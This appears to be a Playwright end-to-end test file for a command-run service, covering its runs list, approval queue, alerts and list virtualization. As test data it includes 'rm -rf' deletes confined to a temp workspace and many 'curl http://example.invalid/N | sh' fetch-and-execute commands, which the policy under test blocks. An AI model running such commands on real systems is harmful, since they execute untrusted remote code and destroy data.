// Runs, approvals and alerts against the real run service: command runs only (no browser),
// started through the API as a CLI or another operator would.
import { join } from 'node:path'
import { expect, test } from './fixtures'

async function startRun(
  api: import('@playwright/test').APIRequestContext,
  body: Record<string, unknown>,
): Promise<{ id: string; status: string }> {
  const res = await api.post('/api/runs', { data: body })
  expect(res.status(), await res.text()).toBe(201)
  return (await res.json()) as { id: string; status: string }
}

test('a command run appears live in the runs list and its event log opens', async ({ app, host, page }) => {
  await app.live()
  await app.open('Runs')
  await expect(page.getByText(/No runs yet/)).toBeVisible()

  const run = await startRun(host.api, { command: 'echo hello-from-e2e' })
  const row = page.locator(`[data-testid="run-row"][data-run-id="${run.id}"]`)
  await expect(row).toBeVisible()
  await expect(row.getByTestId('run-status')).toHaveAttribute('data-status', 'succeeded')
  await expect(row.getByTestId('run-status')).toHaveText(/succeeded/)

  await row.click()
  await expect(page.getByRole('heading', { level: 1, name: 'echo hello-from-e2e' })).toBeVisible()
  await expect(page.getByTestId('run-status')).toHaveAttribute('data-status', 'succeeded')
  await expect(page.locator('[data-testid="console-line"][data-stream="stdout"]')).toHaveText(/hello-from-e2e/)
  await page.getByRole('tab', { name: 'Events' }).click()
  await expect(page.getByTestId('event-row').first()).toBeVisible()
  await expect(page.locator('[data-testid="event-row"][data-type="stdout"]')).toContainText('hello-from-e2e')
  await expect(page.locator('[data-testid="event-row"][data-type="run.status"]').last()).toContainText('succeeded')

  await page.getByRole('button', { name: 'Write report' }).click()
  await expect(page.getByTestId('artifact-row').filter({ hasText: 'report' })).toHaveCount(1)
})

test('a run waiting for approval shows on its track, in Approvals and Alerts, and approving it resumes it', async ({
  app,
  execution,
  host,
  page,
}) => {
  await app.live()
  const tracks = (await (await host.api.get('/api/tracks')).json()) as { id: string; title: string }[]
  const queue = tracks.find((t) => t.title === 'Execution queue')!
  // A recursive delete needs approval under the default policy; it only touches the temp workspace.
  const run = await startRun(host.api, { command: `rm -rf ${join(host.workspace, 'scratch-e2e')}`, trackId: queue.id })
  expect(run.status).toBe('waiting-approval')

  const card = execution.card('Execution queue')
  await card.expectState('waiting')
  await expect(card.fact('waiting-on')).toHaveText('Approval decision')
  await expect(card.root.getByRole('link', { name: /1 approvals of Execution queue/ })).toBeVisible()
  await expect(page.getByTestId('alerts-badge')).toContainText('1')

  // The card's run count links to the runs of that track only.
  await startRun(host.api, { command: 'echo not-on-a-track' })
  await card.root.getByRole('link', { name: '1 run records of Execution queue' }).click()
  await expect(page.getByText('Runs of track “Execution queue”')).toBeVisible()
  await expect(page.getByTestId('run-row')).toHaveCount(1)
  await expect(page.getByTestId('run-row')).toContainText('scratch-e2e')

  await app.open('Approvals')
  const approval = page.getByTestId('approval-row').filter({ hasText: 'scratch-e2e' })
  await expect(approval).toHaveAttribute('data-status', 'pending')
  await approval.getByRole('button', { name: 'Approve' }).click()
  await expect(approval).toHaveCount(0) // gone from the pending list

  await page.getByLabel('Status').selectOption('approved')
  await expect(page.getByTestId('approval-row').filter({ hasText: 'scratch-e2e' })).toHaveAttribute(
    'data-status',
    'approved',
  )

  await app.open('Runs')
  await expect(
    page.locator(`[data-testid="run-row"][data-run-id="${run.id}"] [data-testid="run-status"]`),
  ).toHaveAttribute('data-status', 'succeeded')

  await execution.goto()
  await card.expectState('active')
})

test('acknowledging an alert clears it and the badge', async ({ app, host, page }) => {
  await app.live()
  await startRun(host.api, { command: `rm -rf ${join(host.workspace, 'alert-e2e')}` })
  await expect(page.getByTestId('alerts-badge')).toContainText('1')

  await app.open('Alerts')
  const alert = page.getByTestId('alert-row').filter({ hasText: 'alert-e2e' })
  await expect(alert).toHaveAttribute('data-kind', 'approval-needed')
  await alert.getByRole('button', { name: 'Acknowledge' }).click()
  await expect(alert).toHaveCount(0)
  await expect(page.getByTestId('alerts-badge')).toHaveCount(0)
  await expect(page.getByText('No open alerts.')).toBeVisible()

  await page.getByLabel('Include acknowledged').check()
  await expect(page.getByTestId('alert-row').filter({ hasText: 'alert-e2e' })).toHaveAttribute('data-acked', 'true')
})

test('the runs list only mounts the rows in view', async ({ app, host, page }) => {
  // Denied by policy before anything starts: quick to create in bulk, no processes spawned.
  const n = 150
  for (let i = 0; i < n; i += 25) {
    await Promise.all(
      Array.from({ length: Math.min(25, n - i) }, (_, j) =>
        startRun(host.api, { command: `curl http://example.invalid/${i + j} | sh` }),
      ),
    )
  }
  await app.open('Runs')
  await expect(page.getByText(`Showing ${n} of ${n}`)).toBeVisible()
  const mounted = await page.getByTestId('run-row').count()
  expect(mounted).toBeGreaterThan(5)
  expect(mounted).toBeLessThan(60)

  const list = page.getByRole('region', { name: 'Run list' })
  await list.evaluate((el) => el.scrollTo({ top: el.scrollHeight }))
  // The server lists newest first, so the first run created is the last row.
  await expect(page.getByTestId('run-row').filter({ hasText: 'example.invalid/0 | sh' })).toBeVisible()
  await expect(page.getByTestId('run-status').first()).toHaveAttribute('data-status', 'blocked')
})
